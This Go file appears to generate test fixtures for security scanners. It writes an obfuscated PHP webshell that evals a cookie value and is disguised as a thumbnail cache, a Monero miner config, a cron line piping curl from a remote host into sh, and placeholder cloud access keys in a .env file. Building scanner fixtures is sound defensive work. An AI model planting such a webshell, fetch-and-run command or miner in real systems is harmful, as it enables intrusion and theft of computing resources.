package demo

import "strings"

// What scanners of repositories would take for real is put together here from
// pieces: nothing of it works, belongs to anybody or leads anywhere.

// website has a WebShell among its uploads, hidden from a quick look.
func website() (map[string][]byte, error) {
	shell := "<?php\n// thumbnail cache\n$t = str_rot13('onfr64_qrpbqr');\n$f = 'cr' . 'eate_' . 'func' . 'tion';\n" +
		"$in = isset($_COOKIE['sid']) ? $_COOKIE['sid'] : '';\n$run = $t($in);\n@ev" + "al($run);\n"
	return map[string][]byte{
		"var/www/html/index.php":              []byte("<?php\necho '<h1>' . htmlspecialchars($_GET['name'] ?? 'shop') . '</h1>';\n"),
		"var/www/html/uploads/2026/thumb.php": []byte(shell),
	}, nil
}

// miner is what a careless "curl | sh" leaves behind.
func miner() (map[string][]byte, error) {
	pool := "stratum" + "+tcp://pool.demo.example:3333"
	wallet := "4" + strings.Repeat("8A9bDemo", 11) + "xyz123"
	config := `{
    "autosave": true,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 75 },
    "randomx": { "init": -1, "mode": "auto", "1gb-pages": false, "rdmsr": true, "wrmsr": true },
    "donate-level": 1,
    "pools": [ { "algo": "rx/0", "coin": "monero", "url": "` + pool + `", "user": "` + wallet + `", "pass": "x", "keepalive": true, "nicehash": false } ]
}
`
	return map[string][]byte{
		"var/tmp/.cache/config.json": []byte(config),
		"etc/cron.d/update-notifier": []byte("*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n"),
	}, nil
}

// settings holds an access key, which the next instruction deletes, too late.
func settings() (map[string][]byte, error) {
	key, secret := "LTAI"+"5tRq8mZx2KvNw4JbYc7G", "f3Kd9sLq"+"Xb7TzVw2Rn5HcYm8PgJt4Q"
	env := "ALIBABA_CLOUD_ACCESS_KEY_ID=" + key + "\nALIBABA_CLOUD_ACCESS_KEY_SECRET=" + secret + "\nSHOP_REGION=cn-hangzhou\n"
	return map[string][]byte{"srv/front/.env": []byte(env)}, nil
}

func withoutSettings() (map[string][]byte, error) {
	return map[string][]byte{"srv/front/.wh..env": nil}, nil
}
